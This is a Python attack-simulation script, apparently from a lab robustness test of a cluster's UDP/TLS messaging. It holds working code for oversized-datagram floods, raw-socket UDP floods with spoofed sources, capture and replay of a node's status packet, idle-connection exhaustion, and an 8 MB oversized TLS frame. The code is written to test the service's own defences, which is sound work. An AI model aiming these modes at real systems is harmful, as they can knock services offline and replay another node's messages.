"""A host on the cluster's segment without any key (issue 9), run in the lab's client namespace.

Each mode is bounded in count and time and prints one JSON line of what it did::

    attacker.py fields   DEST PORT RATE SECONDS   63 KB datagrams of 7,000 tiny fields
    attacker.py spoof    DEST PORT RATE SECONDS   random bytes from random (spoofed) sources
    attacker.py capture  PORT NODE SECONDS FILE   keep NODE's last status datagram
    attacker.py replay   DEST PORT FILE COUNT INTERVAL
    attacker.py idle     DEST PORT COUNT SECONDS  connections that never say a word
    attacker.py bigframe DEST PORT COUNT          TLS, then an 8 MB first frame
"""

from __future__ import annotations

import json
import os
import random
import resource
import socket
import ssl
import struct
import sys
import time
from collections.abc import Callable


def paced(rate: float, seconds: float, send: Callable[[], None]) -> int:
    """Call ``send`` ``rate`` times a second for ``seconds``; returns how many calls ran."""
    start = time.monotonic()
    sent = 0
    while (elapsed := time.monotonic() - start) < seconds:
        due = int(elapsed * rate) + 1
        while sent < due:
            send()
            sent += 1
        time.sleep(min(0.002, max(0.0, seconds - elapsed)))
    return sent


def many_fields() -> bytes:
    body = b"6:(0)a=x," * 7000  # the datagram: 7,000 tiny fields in 63 KB
    return b"###\n" + body + b"%%%\n" + b"42:1 " + b"0" * 40 + b","


def fields(dest: str, port: int, rate: float, seconds: float) -> dict[str, object]:
    data = many_fields()
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as s:
        errors = 0

        def send() -> None:
            nonlocal errors
            try:
                s.sendto(data, (dest, port))
            except OSError:
                errors += 1

        sent = paced(rate, seconds, send)
    return {"sent": sent, "bytes": len(data), "errors": errors}


def _checksum(header: bytes) -> int:
    total = sum(int(word) for word in struct.unpack("!10H", header))
    total = (total >> 16) + (total & 0xFFFF)
    return ~(total + (total >> 16)) & 0xFFFF


def spoof(dest: str, port: int, rate: float, seconds: float) -> dict[str, object]:
    """UDP from random addresses of 198.18.128.0/17 (the lab's range, never elsewhere)."""
    rng = random.Random(9)
    sources: set[str] = set()
    with socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW) as s:
        s.setsockopt(socket.IPPROTO_IP, socket.IP_HDRINCL, 1)

        def send() -> None:
            src = f"198.18.{rng.randrange(128, 256)}.{rng.randrange(1, 255)}"
            sources.add(src)
            payload = rng.randbytes(rng.randrange(20, 1200))
            udp = struct.pack("!HHHH", rng.randrange(1024, 65535), port, 8 + len(payload), 0)
            total = 20 + len(udp) + len(payload)
            head = struct.pack("!BBHHHBBH4s4s", 0x45, 0, total, rng.randrange(65536), 0, 64,
                               socket.IPPROTO_UDP, 0, socket.inet_aton(src),
                               socket.inet_aton(dest))
            head = head[:10] + struct.pack("!H", _checksum(head)) + head[12:]
            s.sendto(head + udp + payload, (dest, 0))

        sent = paced(rate, seconds, send)
    return {"sent": sent, "sources": len(sources)}


def capture(port: int, node: str, seconds: float, path: str) -> dict[str, object]:
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as s:
        s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
        s.bind(("", port))
        s.settimeout(0.2)
        end = time.monotonic() + seconds
        kept = 0
        while time.monotonic() < end:
            try:
                data, _ = s.recvfrom(65536)
            except TimeoutError:
                continue
            if b"src=" + node.encode() in data and b"t=status" in data:
                with open(path, "wb") as fh:
                    fh.write(data)
                kept += 1
    return {"kept": kept}


def replay(dest: str, port: int, path: str, count: int, interval: float) -> dict[str, object]:
    with open(path, "rb") as fh:
        data = fh.read()
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as s:
        for _ in range(count):
            s.sendto(data, (dest, port))
            time.sleep(interval)
    return {"sent": count}


def idle(dest: str, port: int, count: int, seconds: float) -> dict[str, object]:
    resource.setrlimit(resource.RLIMIT_NOFILE, (count + 64, count + 64))
    held: list[socket.socket] = []
    failed = 0
    for _ in range(count):
        s = socket.socket()
        s.settimeout(1.0)
        try:
            s.connect((dest, port))
            held.append(s)
        except OSError:
            s.close()
            failed += 1
    time.sleep(seconds)
    alive = 0
    for s in held:  # how many did the server keep open all along?
        s.setblocking(False)
        try:
            closed = s.recv(1) == b""
        except BlockingIOError:
            closed = False
        except OSError:
            closed = True
        alive += not closed
        s.close()
    return {"connected": len(held), "failed": failed, "still_open": alive}


def bigframe(dest: str, port: int, count: int) -> dict[str, object]:
    ctx = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
    ctx.check_hostname = False
    ctx.verify_mode = ssl.CERT_NONE
    frame = struct.pack("!IB", 8 * 1024 * 1024, 1) + b"{" * (8 * 1024 * 1024)
    written = []
    for _ in range(count):
        with (socket.create_connection((dest, port), timeout=10) as raw,
              ctx.wrap_socket(raw) as s):
            n = 0
            try:
                for i in range(0, len(frame), 65536):
                    n += s.send(frame[i : i + 65536])
            except OSError:
                pass
            written.append(n)
    return {"written": written}


def main(argv: list[str]) -> int:
    mode, args = argv[1], argv[2:]
    if mode == "fields":
        out = fields(args[0], int(args[1]), float(args[2]), float(args[3]))
    elif mode == "spoof":
        out = spoof(args[0], int(args[1]), float(args[2]), float(args[3]))
    elif mode == "capture":
        out = capture(int(args[0]), args[1], float(args[2]), args[3])
    elif mode == "replay":
        out = replay(args[0], int(args[1]), args[2], int(args[3]), float(args[4]))
    elif mode == "idle":
        out = idle(args[0], int(args[1]), int(args[2]), float(args[3]))
    elif mode == "bigframe":
        out = bigframe(args[0], int(args[1]), int(args[2]))
    else:
        print(f"unknown mode {mode}", file=sys.stderr)
        return 2
    print(json.dumps({"mode": mode, "pid": os.getpid(), **out}), flush=True)
    return 0


if __name__ == "__main__":
    sys.exit(main(sys.argv))
